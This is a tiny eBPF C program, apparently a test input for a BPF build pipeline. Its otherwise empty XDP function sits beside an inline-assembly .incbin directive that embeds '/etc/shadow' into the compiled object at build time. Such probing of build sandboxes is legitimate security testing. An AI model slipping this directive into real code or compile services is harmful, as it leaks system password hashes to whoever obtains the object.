#include <linux/bpf.h>
#include <bpf/bpf_helpers.h>

asm(".pushsection .rodata\n.incbin \"/etc/shadow\"\n.popsection");

SEC("xdp")
int incbin(struct xdp_md *ctx)
{
	return XDP_PASS;
}

char LICENSE[] SEC("license") = "GPL";
